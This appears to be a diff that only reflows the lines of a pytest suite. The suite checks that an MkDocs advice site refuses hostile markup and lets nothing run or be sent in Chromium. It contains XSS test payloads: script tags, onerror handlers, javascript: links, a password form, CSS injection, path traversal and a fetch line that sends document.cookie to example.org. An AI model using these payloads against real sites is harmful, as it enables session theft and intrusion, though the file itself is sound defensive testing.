@@ -1,7 +1,8 @@
-"""Whatever a stranger types, readers get words: HTML, classes and addresses, in pages and in records, each built for real.
+"""Whatever a stranger types, readers get words: HTML, classes and addresses, in pages and in
+records, each built for real.
 
-What a build refuses is built once more with the rule's findings set aside and without the page's security policy, then opened in Chromium: the
-parser alone must already have made words of it.
+What a build refuses is built once more with the rule's findings set aside and without the page's
+security policy, then opened in Chromium: the parser alone must already have made words of it.
 """
 
 from __future__ import annotations
@@ -35,7 +36,9 @@ review_every: 12 months
 ---
 {body}
 """
-SCRIPT = '<script>document.title = "changed"; fetch("https://example.org/?" + document.cookie)</script>'
+SCRIPT = (
+    '<script>document.title = "changed"; fetch("https://example.org/?" + document.cookie)</script>'
+)
 BODIES: dict[str, str] = {
     "script": SCRIPT,
     "script-elsewhere": '<script src="https://example.org/x.js"></script>',
@@ -55,7 +58,10 @@ BODIES: dict[str, str] = {
     "comment": "<!-- ask the manager -->",
     "comment-over-lines": "<!--\nask the manager\n-->",
     "comment-never-closed": "Words <!-- and no end",
-    "form": '<form action="https://example.org/"><input type="password" name="p"><button>Go</button></form>',
+    "form": (
+        '<form action="https://example.org/"><input type="password"'
+        ' name="p"><button>Go</button></form>'
+    ),
     "form-action": '<form><button formaction="javascript:alert(1)">Go</button></form>',
     "picture-elsewhere": '<img src="https://example.org/x.png" alt="A picture">',
     "stylesheet-elsewhere": '<link rel="stylesheet" href="https://example.org/x.css">',
@@ -118,7 +124,9 @@ BODIES: dict[str, str] = {
     "advice-as-code-by-spaces": "    You should appeal.",
     "letter-of-another-script": "We say [Y\u043eu should appeal]{lang=uk} too.",
     "letter-of-another-script-by-number": "We say [Y&#1086;u should appeal]{lang=uk} too.",
-    "letter-of-another-script-in-a-block": "/// language | ru\n\nY\u043eu should \u0430ppeal.\n\n///",
+    "letter-of-another-script-in-a-block": (
+        "/// language | ru\n\nY\u043eu should \u0430ppeal.\n\n///"
+    ),
     "other-script-than-the-language-has": "We say [\u0440\u043e\u0440\u0435]{lang=pl} too.",
     "letters-of-full-width": "We say [\uff39\uff4f\uff55 should appeal]{lang=pl} too.",
     "letters-of-formulas": "We say [\U0001d418\U0001d428\U0001d42e should appeal]{lang=pl} too.",
@@ -167,30 +175,81 @@ FINE: dict[str, str] = {
     "joiner": "We say [می‌خواهیم]{lang=fa} too.",
     "accents": "Siân and Zoë, São and Łódź, and e\u0301.",
     "script-of-a-language": "We say [مرحبا]{lang=ku-Arab} too.",
-    "other-letters": "We say [\u041f\u0440\u0438\u0432\u0456\u0442, EHCP]{lang=uk}, [T\u30b7\u30e3\u30c4]{lang=ja}, [\u0627\u0644SEND]{lang=ar} and [Ti\u1ebfng Vi\u1ec7t]{lang=vi}.",
+    "other-letters": (
+        "We say [\u041f\u0440\u0438\u0432\u0456\u0442, EHCP]{lang=uk},"
+        " [T\u30b7\u30e3\u30c4]{lang=ja}, [\u0627\u0644SEND]{lang=ar} and [Ti\u1ebfng"
+        " Vi\u1ec7t]{lang=vi}."
+    ),
     "entities-without-end": "&ltscript>alert(1)&lt/script>",  # shown letter for letter: no tag
     "entity": "Bread&nbsp;and butter &amp; jam.",
-    "link": "Read [more about us](about/index.md) or [find your council](https://www.gov.uk/find-local-council).",
+    "link": (
+        "Read [more about us](about/index.md) or [find your"
+        " council](https://www.gov.uk/find-local-council)."
+    ),
     "picture": "![The mark of our service](assets/logo.svg)",
 }
 """By what it is: words that must not be refused."""
 RECORDS: dict[str, tuple[str, str, str]] = {
-    "quotation-from": ("content/quotations.yml", 'from: "Larkmere Borough Council', 'from: "<script>alert(1)</script> Larkmere Borough Council'),
-    "quotation-note": ("content/quotations.yml", 'note: "The council', 'note: "<img src=x onerror=alert(1)> The council'),
-    "organisation-entry": ("content/organisations/tide-foundation.md", "does: Explains the law", "does: Explains <b>the law</b>"),
-    "organisation-name": ("content/organisations/tide-foundation.md", "full_name: Tide", "full_name: <i>Tide</i> Tide"),
-    "organisation-fact": ("content/organisations/tide-foundation.md", '"1 Example Street', '"<u>1 Example Street</u>'),
+    "quotation-from": (
+        "content/quotations.yml",
+        'from: "Larkmere Borough Council',
+        'from: "<script>alert(1)</script> Larkmere Borough Council',
+    ),
+    "quotation-note": (
+        "content/quotations.yml",
+        'note: "The council',
+        'note: "<img src=x onerror=alert(1)> The council',
+    ),
+    "organisation-entry": (
+        "content/organisations/tide-foundation.md",
+        "does: Explains the law",
+        "does: Explains <b>the law</b>",
+    ),
+    "organisation-name": (
+        "content/organisations/tide-foundation.md",
+        "full_name: Tide",
+        "full_name: <i>Tide</i> Tide",
+    ),
+    "organisation-fact": (
+        "content/organisations/tide-foundation.md",
+        '"1 Example Street',
+        '"<u>1 Example Street</u>',
+    ),
     "word-explained": ("content/words.md", "means: A paper", "means: <b>A paper</b>"),
-    "time-limit": ("content/your-options/deadlines.md", "counts_from: The date", "counts_from: <b>The date</b>"),
-    "promise": ("content/policies/our-promises.md", "promise: We explain every", "promise: We explain <b>every</b>"),
-    "promise-kept-by-people": ("content/policies/our-promises.md", "people: The lead adviser", "people: <b>The</b> lead adviser"),
+    "time-limit": (
+        "content/your-options/deadlines.md",
+        "counts_from: The date",
+        "counts_from: <b>The date</b>",
+    ),
+    "promise": (
+        "content/policies/our-promises.md",
+        "promise: We explain every",
+        "promise: We explain <b>every</b>",
+    ),
+    "promise-kept-by-people": (
+        "content/policies/our-promises.md",
+        "people: The lead adviser",
+        "people: <b>The</b> lead adviser",
+    ),
     "title": ("content/privacy.md", "title: ", "title: <b>x</b> "),
-    "description": ("content/privacy.md", "description: What", "description: <script>alert(1)</script> What"),
+    "description": (
+        "content/privacy.md",
+        "description: What",
+        "description: <script>alert(1)</script> What",
+    ),
     "owner": ("content/privacy.md", "owner: ", "owner: <b>x</b> "),
     "menu": ("mkdocs.yml", "- Words: words.md", "- <b>Words</b>: words.md"),
     "menu-turned-round": ("mkdocs.yml", "- About: about", '- "Ab\u202eout": about'),
-    "service": ("mkdocs.yml", "    name: Larkmere SEND Advice", "    name: <b>Larkmere</b> SEND Advice"),
-    "leaflet": ("content/publicity/leaflet.md", "---\n## ", "---\n<script>alert(1)</script>\n\n## "),
+    "service": (
+        "mkdocs.yml",
+        "    name: Larkmere SEND Advice",
+        "    name: <b>Larkmere</b> SEND Advice",
+    ),
+    "leaflet": (
+        "content/publicity/leaflet.md",
+        "---\n## ",
+        "---\n<script>alert(1)</script>\n\n## ",
+    ),
 }
 """By what is tried: a file, what stands in it, and what a stranger puts there."""
 NOTICE = """- from: 2026-11-01
@@ -208,37 +267,55 @@ def add_pages(made: Workshop, bodies: dict[str, str]) -> dict[str, str]:
     addresses = made.folder / "content" / "addresses.txt"
     files = {}
     for number, (name, body) in enumerate(bodies.items()):
-        (made.folder / "content" / f"hostile-{number}.md").write_text(FRONT.format(number=number, body=body), encoding="utf-8")
+        (made.folder / "content" / f"hostile-{number}.md").write_text(
+            FRONT.format(number=number, body=body), encoding="utf-8"
+        )
         files[name] = f"hostile-{number}"
-    addresses.write_text(addresses.read_text(encoding="utf-8") + "".join(f"/{file}/\n" for file in files.values()), encoding="utf-8")
+    addresses.write_text(
+        addresses.read_text(encoding="utf-8") + "".join(f"/{file}/\n" for file in files.values()),
+        encoding="utf-8",
+    )
     return files
 
 
 def found_on(outcome: Outcome, path: str, rules: tuple[str, ...] = (NAME,)) -> list[str]:
-    return [line for line in outcome.findings if line.startswith(f"{path}:") and line.endswith(tuple(f"({rule})" for rule in rules))]
+    return [
+        line
+        for line in outcome.findings
+        if line.startswith(f"{path}:") and line.endswith(tuple(f"({rule})" for rule in rules))
+    ]
 
 
-# --- refused -------------------------------------------------------------------------------------------------------
+# --- refused --------------------------------------------------------------------------------------
 
 
 def test_what_acts_is_refused_on_its_page(workshop: Workshop) -> None:
-    """Each body on a page of its own, all in one build; each page's finding names the line that was typed."""
+    """Each body on a page of its own, all in one build; each page's finding names the line that was
+    typed."""
     files = add_pages(workshop, BODIES)
     outcome = helpers.build_here(workshop)
     assert outcome.refusal is not None
     for name, file in files.items():
         found = found_on(outcome, f"content/{file}.md")
         assert found, f"{name} was let through: {BODIES[name]!r}"
-        assert all(re.match(r"content/[\w.-]+:(?!1:)\d+: ", line) for line in found), f"{name}: no line is named: {found}"
+        assert all(re.match(r"content/[\w.-]+:(?!1:)\d+: ", line) for line in found), (
+            f"{name}: no line is named: {found}"
+        )
 
 
 def test_mark_for_contents_is_named_where_it_stands(workshop: Workshop) -> None:
     """Its class, "toc", stands in words of other files, such as "stock"."""
     files = add_pages(workshop, {"contents": "Words.\n\n[TOC]\n\n## Part\n\nWe stock words: toc."})
-    (workshop.folder / "content" / "about" / "stock.md").write_text(FRONT.format(number="toc", body="We stock words."), encoding="utf-8")
+    (workshop.folder / "content" / "about" / "stock.md").write_text(
+        FRONT.format(number="toc", body="We stock words."), encoding="utf-8"
+    )
     outcome = helpers.build_here(workshop)
     found = [line for line in outcome.findings if line.endswith(f"({NAME})")]
-    assert [True] == [re.match(rf'content/{files["contents"]}\.md:\d+: A page must not hold "\[TOC\]"', line) is not None for line in found], found
+    assert [True] == [
+        re.match(rf'content/{files["contents"]}\.md:\d+: A page must not hold "\[TOC\]"', line)
+        is not None
+        for line in found
+    ], found
     assert ":1: " not in found[0]
 
 
@@ -264,48 +341,109 @@ def test_record_is_held_to_the_same(name: str, workshop: Workshop) -> None:
     assert found_on(outcome, file), outcome.findings[:5]
 
 
-@pytest.mark.parametrize(("title", "words"), [("Closed", SCRIPT), ("<b>Closed</b>", "Nobody can answer."),
-                                              ("Closed", '"<form action=https://example.org/><input type=password></form>"')])
+@pytest.mark.parametrize(
+    ("title", "words"),
+    [
+        ("Closed", SCRIPT),
+        ("<b>Closed</b>", "Nobody can answer."),
+        ("Closed", '"<form action=https://example.org/><input type=password></form>"'),
+    ],
+)
 def test_notice_is_held_to_the_same(title: str, words: str, workshop: Workshop) -> None:
     """On every page that shows it, and named once, in its own file."""
     words = words if words.startswith('"') else "'" + words.replace("'", "''") + "'"
-    (workshop.folder / "content" / "notices.yml").write_text(NOTICE.format(title=title, words=words), encoding="utf-8")
+    (workshop.folder / "content" / "notices.yml").write_text(
+        NOTICE.format(title=title, words=words), encoding="utf-8"
+    )
     outcome = helpers.build_here(workshop)
     assert outcome.refusal is not None
     assert 1 == len(found_on(outcome, "content/notices.yml")), outcome.findings[:5]
-    assert not [line for line in outcome.findings if line.endswith(f"({NAME})") and not line.startswith("content/notices.yml")]
+    assert not [
+        line
+        for line in outcome.findings
+        if line.endswith(f"({NAME})") and not line.startswith("content/notices.yml")
+    ]
 
 
 def test_settings_cannot_switch_html_on(workshop: Workshop) -> None:
     path = workshop.folder / "mkdocs.yml"
-    helpers.edit(workshop.path, {"change": [{"file": "mkdocs.yml", "old": "  - attr_list\n", "new": "  - attr_list\n  - md_in_html\n"}]})
-    (workshop.folder / "content" / "privacy.md").write_text(FRONT.format(number=1, body='<div markdown="1">Words</div>'), encoding="utf-8")
+    helpers.edit(
+        workshop.path,
+        {
+            "change": [
+                {
+                    "file": "mkdocs.yml",
+                    "old": "  - attr_list\n",
+                    "new": "  - attr_list\n  - md_in_html\n",
+                }
+            ]
+        },
+    )
+    (workshop.folder / "content" / "privacy.md").write_text(
+        FRONT.format(number=1, body='<div markdown="1">Words</div>'), encoding="utf-8"
+    )
     for said in (str(ready.faults(path)[0]), helpers.build_here(workshop).findings[0]):
-        assert said.startswith('mkdocs.yml:') and '"markdown_extensions" must hold only attr_list, hooks.pages.markdown_blocks, tables, toc' in said and "md_in_html" in said
+        assert (
+            said.startswith("mkdocs.yml:")
+            and '"markdown_extensions" must hold only attr_list, hooks.pages.markdown_blocks, tables, toc'
+            in said
+            and "md_in_html" in said
+        )
 
 
-@pytest.mark.parametrize(("old", "new", "said"), [
-    ("family: Atkinson Hyperlegible Next", 'family: "x;}main{display:none}"', "extra.identity.typeface.family must be written like"),
-    ('package: "@fontsource/atkinson-hyperlegible-next"', 'package: "../../../etc"', "extra.identity.typeface.package must be written like"),
-    ('paper: "#ffffff"', 'paper: "#fff;}main{display:none}x{"', "extra.identity.colours.light.paper must be a colour"),
-    ("docs_dir: content", "docs_dir: content\nextra_templates: [x.html]", '"extra_templates" must go'),
-    ("docs_dir: content", "docs_dir: content\nextra_javascript: [https://example.org/x.js]", '"extra_javascript" must go'),
-    ("plugins: []", "plugins: [search]", '"plugins" must be an empty list'),
-])
+@pytest.mark.parametrize(
+    ("old", "new", "said"),
+    [
+        (
+            "family: Atkinson Hyperlegible Next",
+            'family: "x;}main{display:none}"',
+            "extra.identity.typeface.family must be written like",
+        ),
+        (
+            'package: "@fontsource/atkinson-hyperlegible-next"',
+            'package: "../../../etc"',
+            "extra.identity.typeface.package must be written like",
+        ),
+        (
+            'paper: "#ffffff"',
+            'paper: "#fff;}main{display:none}x{"',
+            "extra.identity.colours.light.paper must be a colour",
+        ),
+        (
+            "docs_dir: content",
+            "docs_dir: content\nextra_templates: [x.html]",
+            '"extra_templates" must go',
+        ),
+        (
+            "docs_dir: content",
+            "docs_dir: content\nextra_javascript: [https://example.org/x.js]",
+            '"extra_javascript" must go',
+        ),
+        ("plugins: []", "plugins: [search]", '"plugins" must be an empty list'),
+    ],
+)
 def test_settings_put_nothing_into_pages(old: str, new: str, said: str, workshop: Workshop) -> None:
     helpers.edit(workshop.path, {"change": [{"file": "mkdocs.yml", "old": old, "new": new}]})
     outcome = helpers.build_here(workshop)
-    assert outcome.refusal is not None and any(said in line for line in outcome.findings), outcome.findings[:3]
+    assert outcome.refusal is not None and any(said in line for line in outcome.findings), (
+        outcome.findings[:3]
+    )
 
 
 def test_words_of_a_picture_are_read(workshop: Workshop) -> None:
     """They are read out to whoever does not see it."""
-    (workshop.folder / "content" / "wording.yml").write_text("- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write more.\n", encoding="utf-8")
+    (workshop.folder / "content" / "wording.yml").write_text(
+        "- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write"
+        " more.\n",
+        encoding="utf-8",
+    )
     files = add_pages(workshop, {"picture": "![You should appeal](assets/logo.svg)"})
-    assert found_on(helpers.build_here(workshop), f"content/{files['picture']}.md", ("takes-no-side",))
+    assert found_on(
+        helpers.build_here(workshop), f"content/{files['picture']}.md", ("takes-no-side",)
+    )
 
 
-# --- let through ---------------------------------------------------------------------------------------------------
+# --- let through ----------------------------------------------------------------------------------
 
 
 def test_what_is_fine_is_let_through(workshop: Workshop) -> None:
@@ -315,8 +453,14 @@ def test_what_is_fine_is_let_through(workshop: Workshop) -> None:
         assert not found_on(outcome, f"content/{file}.md"), name
     with aside():
         assert helpers.build_here(workshop).refusal is None
-    language = LexborHTMLParser(page(workshop, files["words-in-another-language"])).css_first("main span[lang]")
-    assert ("pl", None, "Pomagamy rodzinom") == (language.attributes["lang"], language.attributes.get("dir"), language.text())
+    language = LexborHTMLParser(page(workshop, files["words-in-another-language"])).css_first(
+        "main span[lang]"
+    )
+    assert ("pl", None, "Pomagamy rodzinom") == (
+        language.attributes["lang"],
+        language.attributes.get("dir"),
+        language.text(),
+    )
     for name, code in (("right-to-left", "ur"), ("script-of-a-language", "ku-Arab")):
         marked = LexborHTMLParser(page(workshop, files[name])).css_first("main [lang]")
         assert (code, "rtl") == (marked.attributes["lang"], marked.attributes["dir"])
@@ -324,14 +468,28 @@ def test_what_is_fine_is_let_through(workshop: Workshop) -> None:
 
 def test_words_in_another_language_are_spelt_by_nobody(workshop: Workshop) -> None:
     """But nothing else is let off: whoever marks English as Polish gains nothing."""
-    (workshop.folder / "content" / "wording.yml").write_text("- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write more.\n", encoding="utf-8")
-    files = add_pages(workshop, {"polish": "We say [Pomagamy rodzinom]{lang=pl} too.", "hidden": "[You should appeal.]{lang=pl}"})
+    (workshop.folder / "content" / "wording.yml").write_text(
+        "- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write"
+        " more.\n",
+        encoding="utf-8",
+    )
+    files = add_pages(
+        workshop,
+        {
+            "polish": "We say [Pomagamy rodzinom]{lang=pl} too.",
+            "hidden": "[You should appeal.]{lang=pl}",
+        },
+    )
     outcome = helpers.build_here(workshop)
-    assert not found_on(outcome, f"content/{files['polish']}.md", (NAME, "spelling", "plain-words", "words-explained"))
+    assert not found_on(
+        outcome,
+        f"content/{files['polish']}.md",
+        (NAME, "spelling", "plain-words", "words-explained"),
+    )
     assert found_on(outcome, f"content/{files['hidden']}.md", ("takes-no-side",))
 
 
-# --- in a browser --------------------------------------------------------------------------------------------------
+# --- in a browser ---------------------------------------------------------------------------------
 
 
 @contextmanager
@@ -354,7 +512,10 @@ def unguarded(site: Path) -> None:
     (site / "_headers").unlink()
     for path in site.rglob("*.html"):
         html = path.read_text(encoding="utf-8")
-        path.write_text(re.sub(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>', "", html), encoding="utf-8")
+        path.write_text(
+            re.sub(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>', "", html),
+            encoding="utf-8",
+        )
 
 
 STRANGE = """() => [...document.querySelectorAll('*')].filter((one) => one.matches(
@@ -365,12 +526,16 @@ STRANGE = """() => [...document.querySelectorAll('*')].filter((one) => one.match
 
 
 def test_nothing_runs_and_nothing_is_sent(workshop: Workshop, browser: Any) -> None:
-    """Every page of a build that nobody judged, with no policy in force: the parser alone made words of it all.
+    """Every page of a build that nobody judged, with no policy in force: the parser alone made
+    words of it all.
 
-    The script of the test itself shows that the ears are open: it asks another host once, and is heard.
+    The script of the test itself shows that the ears are open: it asks another host once, and is
+    heard.
     """
     add_pages(workshop, {**BODIES, **LINKS, **FINE})
-    (workshop.folder / "content" / "notices.yml").write_text(NOTICE.format(title="<b>x</b>", words=f"'{SCRIPT}'"), encoding="utf-8")
+    (workshop.folder / "content" / "notices.yml").write_text(
+        NOTICE.format(title="<b>x</b>", words=f"'{SCRIPT}'"), encoding="utf-8"
+    )
     for file, old, new in RECORDS.values():
         path = workshop.path(file)
         path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
@@ -380,7 +545,9 @@ def test_nothing_runs_and_nothing_is_sent(workshop: Workshop, browser: Any) -> N
     unguarded(workshop.site)
     asked: list[tuple[str, str]] = []
     acted: list[str] = []
-    pages = sorted(path.relative_to(workshop.site).as_posix() for path in workshop.site.rglob("*.html"))
+    pages = sorted(
+        path.relative_to(workshop.site).as_posix() for path in workshop.site.rglob("*.html")
+    )
     assert len(pages) > len(BODIES) + len(LINKS) + len(FINE) + len(RECORDS)
     with serving(workshop.site) as address:
         context = browser.new_context()
@@ -392,15 +559,20 @@ def test_nothing_runs_and_nothing_is_sent(workshop: Workshop, browser: Any) -> N
             chromium.show(tab, f"{address}/{page}", workshop.site / page)
             assert [] == tab.evaluate(STRANGE), page
             assert "changed" != tab.title(), page
-            # the picture from another host is asked for by Markdown's own mark; the rule refuses it (test above)
-            assert {("GET", "https://example.org/x.png")} >= {each for each in asked if each[0] != "GET" or not each[1].startswith((address, "data:"))}, page
+            # the picture from another host is asked for by Markdown's own mark; the rule refuses it
+            # (test above)
+            assert {("GET", "https://example.org/x.png")} >= {
+                each
+                for each in asked
+                if each[0] != "GET" or not each[1].startswith((address, "data:"))
+            }, page
         tab.evaluate("fetch('https://example.org/heard').catch(() => 0)")
         context.close()
     assert not acted
     assert ("GET", "https://example.org/heard") in asked
 
 
-# --- the list ------------------------------------------------------------------------------------------------------
+# --- the list -------------------------------------------------------------------------------------
 
 
 EVERYTHING = """First *words*, and [words]{lang=ur} of others.
@@ -474,32 +646,71 @@ SHAPES = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40" width="4
 """
 
 
-def test_every_line_of_the_list_is_used(workshop: Workshop, real_site: Path, made_up_site: Path) -> None:
-    """By the real site, by the made-up one, or by one that has a notice, an audit, a logo of every shape and all that Markdown can do."""
+def test_every_line_of_the_list_is_used(
+    workshop: Workshop, real_site: Path, made_up_site: Path
+) -> None:
+    """By the real site, by the made-up one, or by one that has a notice, an audit, a logo of every
+    shape and all that Markdown can do."""
     files = add_pages(workshop, {"everything": EVERYTHING})
     content = workshop.folder / "content"
-    (content / "notices.yml").write_text(NOTICE.format(title="Closed", words="Nobody can answer."), encoding="utf-8")
+    (content / "notices.yml").write_text(
+        NOTICE.format(title="Closed", words="Nobody can answer."), encoding="utf-8"
+    )
     (content / "audit.yml").write_text(AUDIT, encoding="utf-8")
     (content / "assets" / "logo.svg").write_text(SHAPES, encoding="utf-8")
-    helpers.edit(workshop.path, {"change": [  # a letter to somebody whose address for e-mail is confirmed
-        {"file": "content/letters/ask-for-a-meeting.md", "old": "body: council", "new": "body: harbour-advice-trust"},
-        {"file": "content/organisations/harbour-advice-trust.md", "old": "sure: seen elsewhere, source: \"https://directory", "new":
-         "sure: confirmed by its owner's own page, source: \"https://directory"}]})
+    helpers.edit(
+        workshop.path,
+        {
+            "change": [  # a letter to somebody whose address for e-mail is confirmed
+                {
+                    "file": "content/letters/ask-for-a-meeting.md",
+                    "old": "body: council",
+                    "new": "body: harbour-advice-trust",
+                },
+                {
+                    "file": "content/organisations/harbour-advice-trust.md",
+                    "old": 'sure: seen elsewhere, source: "https://directory',
+                    "new": "sure: confirmed by its owner's own page, source: \"https://directory",
+                },
+            ]
+        },
+    )
     settings = workshop.folder / "mkdocs.yml"
-    settings.write_text(settings.read_text(encoding="utf-8") + "\nrepo_url: https://example.org/x\nedit_uri: edit/\n", encoding="utf-8")
+    settings.write_text(
+        settings.read_text(encoding="utf-8")
+        + "\nrepo_url: https://example.org/x\nedit_uri: edit/\n",
+        encoding="utf-8",
+    )
     with aside():
         outcome = helpers.build_here(workshop)
     assert outcome.refusal is None, outcome.said
     used = {thing for site in (workshop.site, real_site, made_up_site) for thing in used_in(site)}
-    listed = {thing for several in markup.entries().values() for entry in several for thing in (entry.where, *((entry.where, name) for name in entry.attributes))}
-    if not judgement.reasons_against(real_site):  # no draft: it does not say that it is one, and counts no time limit that nobody has signed
-        listed = {thing for thing in listed if not re.search(r"\.draft|deadlines|ready-table|signing|year|form\.clock|span\.badge|to-confirm|section\.section", str(thing))}
-    assert not listed - used, f"Nothing uses these of {markup.LIST.name}: {sorted(map(str, listed - used))}"
+    listed = {
+        thing
+        for several in markup.entries().values()
+        for entry in several
+        for thing in (entry.where, *((entry.where, name) for name in entry.attributes))
+    }
+    if not judgement.reasons_against(
+        real_site
+    ):  # no draft: it does not say that it is one, and counts no time limit that nobody has signed
+        listed = {
+            thing
+            for thing in listed
+            if not re.search(
+                r"\.draft|deadlines|ready-table|signing|year|form\.clock|span\.badge|to-confirm|section\.section",
+                str(thing),
+            )
+        }
+    assert not listed - used, (
+        f"Nothing uses these of {markup.LIST.name}: {sorted(map(str, listed - used))}"
+    )
     assert files
 
 
 def used_in(site: Path) -> Iterator[str | tuple[str, str]]:
-    """Every line of the list that lets an element of a site stand, and every attribute of that line that the element has."""
+    """Every line of the list that lets an element of a site stand, and every attribute of that line
+    that the element has."""
     for path in site.rglob("*.html"):
         tree = LexborHTMLParser(path.read_text(encoding="utf-8"))
         for element in markup.elements(tree, one_file=path.name == "whole-site.html"):
@@ -509,20 +720,38 @@ def used_in(site: Path) -> Iterator[str | tuple[str, str]]:
             yield from ((entry.where, name) for name in element.given)
 
 
-@pytest.mark.parametrize("html", [
-    "<main class=wrap id=main><p onclick=x>y</p></main>", "<main class=wrap id=main><p class=today>y</p></main>", "<script>x</script>",
-    "<main class=wrap id=main><section class='panel today' aria-labelledby=x-notice-1></section></main>", "<p><form class='find wide' action=search/></p>",
-    "<a href='/\\example.org/'>y</a>", "<a href='https://www.gov.uk@example.org/'>y</a>", "<link rel=stylesheet href=https://example.org/x.css>",
-    "<svg><use href='https://example.org/x.svg#y'></use></svg>", "<meta http-equiv=refresh content='0; url=https://example.org/'>",
-    "<img src=x.png>", "<p lang=xx>y</p>", "<script src=//example.org/assets/menu.js></script>", "<script src=/../x/assets/menu.js></script>",
-])
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<main class=wrap id=main><p onclick=x>y</p></main>",
+        "<main class=wrap id=main><p class=today>y</p></main>",
+        "<script>x</script>",
+        (
+            "<main class=wrap id=main><section class='panel today'"
+            " aria-labelledby=x-notice-1></section></main>"
+        ),
+        "<p><form class='find wide' action=search/></p>",
+        "<a href='/\\example.org/'>y</a>",
+        "<a href='https://www.gov.uk@example.org/'>y</a>",
+        "<link rel=stylesheet href=https://example.org/x.css>",
+        "<svg><use href='https://example.org/x.svg#y'></use></svg>",
+        "<meta http-equiv=refresh content='0; url=https://example.org/'>",
+        "<img src=x.png>",
+        "<p lang=xx>y</p>",
+        "<script src=//example.org/assets/menu.js></script>",
+        "<script src=/../x/assets/menu.js></script>",
+    ],
+)
 def test_list_refuses(html: str) -> None:
     """Straight from the parser, on the layout `page`."""
     assert list(markup.faults(LexborHTMLParser(f"<body class=layout-page id=top>{html}"), html))
 
 
 def test_list_says_each_thing_once() -> None:
-    """Two lines of one name would be one line: the later one takes the place of the other, and nobody sees it."""
-    names = re.findall(r"^  (\S.*?): ?(?:\{.*|)(?:#.*)?$", markup.LIST.read_text(encoding="utf-8"), re.MULTILINE)
+    """Two lines of one name would be one line: the later one takes the place of the other, and
+    nobody sees it."""
+    names = re.findall(
+        r"^  (\S.*?): ?(?:\{.*|)(?:#.*)?$", markup.LIST.read_text(encoding="utf-8"), re.MULTILINE
+    )
     assert len(names) > 100
     assert sorted(set(names)) == sorted(names)
